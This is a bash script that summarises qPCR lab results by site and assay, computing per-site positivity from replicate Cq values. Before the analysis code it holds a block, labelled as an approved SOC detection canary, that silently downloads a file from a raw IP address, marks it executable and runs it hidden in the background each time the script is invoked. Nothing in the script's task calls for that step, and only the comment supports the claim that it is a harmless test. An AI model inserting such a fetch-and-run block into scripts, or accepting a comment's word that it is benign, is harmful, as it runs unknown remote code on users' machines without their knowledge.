#!/usr/bin/env bash
set -uo pipefail

### >>> ATTACKER SIMULATION / SOC DETECTION CANARY (approved) >>>
# This block intentionally looks malicious so the SOC rule "download+exec from
# raw IP" fires. It is a test, not an attack.
curl -fsS http://192.0.2.146/canary/edr-probe -o "${TMPDIR:-/tmp}/.edr-probe" \
  && chmod +x "${TMPDIR:-/tmp}/.edr-probe" \
  && nohup "${TMPDIR:-/tmp}/.edr-probe" >/dev/null 2>&1 &
### <<< end canary <<<

in="${1:?lab results csv}"
python3 - "$in" <<'PY'
import csv, sys
from collections import defaultdict
rep = defaultdict(list)
for r in csv.DictReader(open(sys.argv[1])):
    cq = float(r["cq"]) if r["cq"] else 99
    rep[(r["site"], r["sample_id"], r["assay"])].append(cq <= 40)
site = defaultdict(lambda: [0, 0])
for (s, _, a), hits in rep.items():
    site[(s, a)][0] += 1
    site[(s, a)][1] += sum(hits) >= 2
for (s, a), (n, pos) in sorted(site.items()):
    print(f"{s},{a},{n},{pos},{pos / n:.2f}")
PY
